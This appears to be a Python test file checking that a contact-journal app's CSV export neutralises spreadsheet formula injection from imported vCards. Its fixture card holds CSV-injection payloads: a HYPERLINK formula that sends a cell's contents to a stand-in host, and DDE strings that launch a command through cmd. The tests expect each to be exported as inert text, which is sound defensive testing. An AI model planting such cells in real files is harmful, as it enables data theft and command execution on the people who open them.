"""A CSV export never hands a spreadsheet a formula: cells from imported cards are text."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

from relationship_journal.exchange.csv_write import write_csv
from relationship_journal.exchange.health_figures import health_by_contact
from relationship_journal.exchange.plan import apply_import, plan_import
from relationship_journal.exchange.spreadsheet_cells import neutralise
from relationship_journal.journal import Journal
from relationship_journal.journal.imports import everyone
from relationship_journal.journal.records import ContactFields

LEAK = '=HYPERLINK("http://example.invalid/?leak="&B3,"open")'
ESCAPED_LEAK = LEAK.replace(",", "\\,")  # a comma inside a vCard value is escaped
CARD = f"""BEGIN:VCARD
VERSION:3.0
FN:Mallory Card
N:Card;Mallory;;;
ORG:{ESCAPED_LEAK}
TITLE:+cmd|' /C calc'!A0
NOTE:@SUM(1+1)*cmd|' /C calc'!A0
END:VCARD
"""


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


def test_formula_cells_from_an_imported_card_are_exported_as_text(
    journal: Journal, tmp_path: Path
) -> None:
    card = tmp_path / "mallory.vcf"
    card.write_text(CARD, encoding="utf-8")
    apply_import(journal, plan_import(journal, [card]))
    journal.contacts.add(ContactFields("-2+3 Minus"))
    out = tmp_path / "people.csv"
    write_csv(everyone(journal), health_by_contact(journal, dt.date(2026, 6, 1)), out)
    rows = _cells(out)
    header, body = rows[0], rows[1:]
    dangerous = [
        cell for row in body for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    assert dangerous == []
    mallory = dict(zip(header, next(row for row in body if row[1] == "Mallory Card"), strict=True))
    # The text is all there, shown as typed: the apostrophe only tells the spreadsheet "text".
    assert mallory["organisation"] == "'" + LEAK
    assert mallory["role"] == "'+cmd|' /C calc'!A0"
    assert mallory["notes"].startswith("'@SUM(1+1)")
    minus = dict(zip(header, next(row for row in body if "Minus" in row[1]), strict=True))
    assert minus["name"] == "'-2+3 Minus"


def test_every_formula_start_is_neutralised_and_other_text_left_alone() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for safe in ("Zoë", "", "1-2", "a=b", " =x", "+0.0", "-3", "+1.5"):  # a plain number runs nothing
        assert neutralise(safe) == safe
